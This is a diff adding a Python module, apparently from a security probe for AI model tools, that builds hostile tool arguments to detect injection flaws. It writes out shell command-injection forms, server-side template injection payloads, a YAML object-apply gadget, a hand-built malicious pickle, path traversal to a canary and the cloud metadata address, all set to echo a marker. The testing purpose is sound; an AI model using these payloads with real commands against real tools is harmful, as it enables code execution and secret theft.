@@ -1,0 +1,233 @@
+"""Makes inputs of a malicious caller, each with a proof by which it is recognised that a tool let it act. Pure.
+
+A tool that puts an argument into a command, a template or a path does what whoever writes the argument wants: a page
+that the model has read, for one. Honest inputs never show that. These do nothing but start `/bin/echo`, calculate a
+product, or open a canary.
+"""
+
+from __future__ import annotations
+
+import base64
+import re
+import secrets
+from dataclasses import dataclass
+from typing import TYPE_CHECKING, Any, Literal
+
+from proxy.probe.declared_words import EXEC_PARAMETERS, split_words
+from proxy.probe.synthesise import Input, fits, synthesise
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator, Sequence
+
+    from proxy.core.model import JsonObject
+    from proxy.probe.synthesise import SampleFiles
+
+type Proof = Literal["ran", "shown", "opened", "reached", "complained"]
+MAX_CALLS = 160
+MAX_PARAMETERS = 6
+MANY = 30  # so many items of a list, none of them long, are no reason to use up a machine
+ECHO = "/bin/echo"
+METADATA = "169.254.169.254"
+# A module that every Python has, and no program imports.
+MODULE = "antigravity"
+_PATHS = re.compile(r"\b(path|file|filename|filepath|uri|url|source|module|plugin|script|document|template|config)s?\b")
+_URLS = re.compile(r"\b(url|uri|link|endpoint|host|hostname|webhook|address|website|server|source)s?\b")
+_ENCODED = re.compile(r"\b(base ?64|b64|encoded|serialized|serialised|pickled?|data|payload|blob|bytes|object|state)\b")
+_MODULES = re.compile(r"\b(module|library|package|plugin|extension|class)\b")
+_TEMPLATES = re.compile(r"\b(template|format|expression|formula|equation|calculat\w*|evaluat\w*|math\w*)\b")
+_SQL = re.compile(r"\b(sql|sqlite|postgres\w*|mysql|database)\b")
+
+
+@dataclass(frozen=True, slots=True)
+class Attempt:
+    """One hostile input: the parameter that holds it, and what shows that it acted."""
+
+    arguments: JsonObject
+    parameter: str
+    label: str
+    proof: Proof
+    token: str  # the marker, the product, the path or the peer
+
+
+@dataclass(frozen=True, slots=True)
+class Bait:
+    """What a hostile argument may name: a canary that no argument of an honest caller names, and files with code."""
+
+    secret: str  # the path of a canary
+    files: tuple[str, ...]  # that start `/bin/echo` with `token`, if something runs them
+    token: str
+
+
+@dataclass(frozen=True, slots=True)
+class _Text:
+    label: str
+    text: str
+    proof: Proof
+    token: str
+
+
+def bait_files(token: str) -> dict[str, str]:
+    """Return files, by name, that start `/bin/echo` with a token where something runs, imports or loads them."""
+    python = f"__import__('os').system('{ECHO} {token}')\n"
+    return {
+        "extension.py": python,
+        "extension.js": f"require('child_process').execSync('{ECHO} {token}')\n",
+        "extension.sh": f"#!/bin/sh\n{ECHO} {token}\n",
+        "settings.yaml": f"name: !!python/object/apply:os.system ['{ECHO} {token}']\n",
+        "state.pkl": _pickle(token).decode("latin-1"),
+    }
+
+
+def attempts(tool: JsonObject, samples: SampleFiles, bait: Bait) -> tuple[Attempt, ...]:
+    """Return hostile inputs for the texts and lists that a tool takes, bounded."""
+    schema = tool.get("inputSchema")
+    root: JsonObject = schema if isinstance(schema, dict) else {}
+    bases = _bases(synthesise(tool, samples))
+    found: list[Attempt] = []
+    for name in _texts(bases):
+        described = _words(f"{name} {_described(root, name)}")
+        about = _words(f"{tool.get('name', '')} {tool.get('description', '')}")
+        runs = not EXEC_PARAMETERS.isdisjoint(split_words(name))
+        for arguments in bases:
+            made = (_put(arguments, name, each) for each in _payloads(described, about, bait, runs=runs))
+            found += [each for each in made if each is not None and fits(root, each.arguments)]
+    return tuple(found[:MAX_CALLS])
+
+
+def crowds(tool: JsonObject, samples: SampleFiles) -> tuple[Input, ...]:
+    """Return inputs with more items in their lists than an example has, still few."""
+    schema = tool.get("inputSchema")
+    root: JsonObject = schema if isinstance(schema, dict) else {}
+    base: JsonObject = max((each.arguments for each in synthesise(tool, samples)), key=len, default={})
+    lists = {name: value * MANY for name, value in base.items() if isinstance(value, list) and value}
+    arguments = {**base, **lists}
+    return (Input("many items", arguments),) if lists and fits(root, arguments) else ()
+
+
+def _bases(inputs: Sequence[Input]) -> list[JsonObject]:
+    """Return the inputs that name all parameters: with what can be switched off, and on."""
+    return [each.arguments for each in inputs if each.label in ("all", "other")] or [
+        each.arguments for each in inputs[:1]
+    ]
+
+
+def _texts(bases: Sequence[JsonObject]) -> list[str]:
+    names = dict.fromkeys(name for each in bases for name, value in each.items() if _is_text(value))
+    return list(names)[:MAX_PARAMETERS]
+
+
+def _is_text(value: Any) -> bool:
+    return isinstance(value, str) or (isinstance(value, list) and bool(value) and isinstance(value[0], str))
+
+
+def _described(root: JsonObject, name: str) -> str:
+    properties = root.get("properties")
+    schema = properties.get(name) if isinstance(properties, dict) else None
+    return str(schema.get("description", ""))[:200] if isinstance(schema, dict) else ""
+
+
+def _put(arguments: JsonObject, name: str, payload: _Text) -> Attempt | None:
+    given = arguments.get(name)
+    if not _is_text(given):
+        return None
+    value: Any = [payload.text] if isinstance(given, list) else payload.text
+    return Attempt({**arguments, name: value}, name, payload.label, payload.proof, payload.token)
+
+
+def _payloads(described: str, about: str, bait: Bait, *, runs: bool) -> Iterator[_Text]:
+    if not runs:  # a parameter that is called `command` is there to be run
+        yield from _commands()
+        yield from _files(described, bait)
+        yield from _modules(described)
+        if _ENCODED.search(described):
+            yield from _encoded()
+    else:
+        yield from _asked(bait)
+    yield from _templates(expected=_TEMPLATES.search(f"{described} {about}") is not None)
+    yield from _places(described, bait)
+    if not _SQL.search(f"{described} {about}"):
+        yield _Text("a quotation mark in a query", "O'Brien'\"", "complained", "'")
+
+
+def _commands() -> Iterator[_Text]:
+    forms = ("$({})", "x;{};#", "';{};'", '";{};"', "x|{}", "x\n{}\n")
+    for form in forms:
+        token = marker()
+        yield _Text("a command of a shell", form.format(f"{ECHO} {token}"), "ran", token)
+    code = (
+        "__import__('os').system('{}')",
+        "global.process.mainModule.constructor._load('child_process').execSync('{}')",
+        # Engines of templates, each in the form in which it runs code.
+        "{{{{cycler.__init__.__globals__.os.popen('{}').read()}}}}",
+        "${{__import__('os').popen('{}').read()}}",
+        "#import os\n$os.popen('{}').read()",
+        "{{% import os %}}{{{{os.popen('{}').read()}}}}",
+        "!!python/object/apply:os.system ['{}']",
+    )
+    for form in code:
+        token = marker()
+        yield _Text("code", form.format(f"{ECHO} {token}"), "ran", token)
+
+
+def _templates(*, expected: bool) -> Iterator[_Text]:
+    # To a tool that says that it fills in templates, or calculates, a product is no escape; the objects of its
+    # language are.
+    if not expected:
+        for form in ("{{{{{}*{}}}}}", "${{{}*{}}}", "<%= {}*{} %>"):
+            one, other = 10_000 + secrets.randbelow(80_000), 10_000 + secrets.randbelow(80_000)
+            yield _Text("an expression in a template", form.format(one, other), "shown", str(one * other))
+    for form in ("{0.__class__}", "{name.__class__}", "{value.__class__}"):
+        yield _Text("an attribute in a format", form, "shown", "<class '")
+    yield _Text("a module in a template", "$os ${sys}", "shown", "<module '")
+
+
+def _asked(bait: Bait) -> Iterator[_Text]:
+    """Yield what a malicious caller has a tool do that runs what it is told."""
+    for text in (f"cat {bait.secret}", f"print(open('{bait.secret}').read())", f"open('{bait.secret}').read()"):
+        yield _Text("a command that reads a secret", text, "opened", bait.secret)
+    code = f"open('{bait.secret}').read()".encode()
+    yield _Text("a command that reads a secret", base64.b64encode(code).decode(), "opened", bait.secret)
+
+
+def _places(described: str, bait: Bait) -> Iterator[_Text]:
+    up = "../" * 12
+    yield _Text("a path that leads up", f"{up}{bait.secret.lstrip('/')}", "opened", bait.secret)
+    if _URLS.search(described):
+        yield _Text("the address of a cloud's metadata", f"http://{METADATA}/latest/meta-data/", "reached", METADATA)
+
+
+def _files(described: str, bait: Bait) -> Iterator[_Text]:
+    if _PATHS.search(described):
+        for path in bait.files:
+            yield _Text("a file with code", path, "ran", bait.token)
+
+
+def _modules(described: str) -> Iterator[_Text]:
+    if _MODULES.search(described):
+        yield _Text("the name of a module", MODULE, "opened", f"/{MODULE}.")
+
+
+def _encoded() -> Iterator[_Text]:
+    for make in (_script, _pickle):
+        token = marker()
+        yield _Text("code in base64", base64.b64encode(make(token)).decode(), "ran", token)
+    token = marker()
+    yield _Text("a pickle", _pickle(token).decode("latin-1"), "ran", token)
+
+
+def _script(token: str) -> bytes:
+    return f"__import__('os').system('{ECHO} {token}')".encode()
+
+
+def _pickle(token: str) -> bytes:
+    # By hand, in protocol 0, which is text: to make one with `pickle` needs a class for it.
+    return f"cos\nsystem\n(S'{ECHO} {token}'\ntR.".encode()
+
+
+def marker() -> str:
+    """Return a word that occurs nowhere else."""
+    return f"q{secrets.token_hex(6)}"
+
+
+def _words(text: str) -> str:
+    return " ".join(split_words(text))
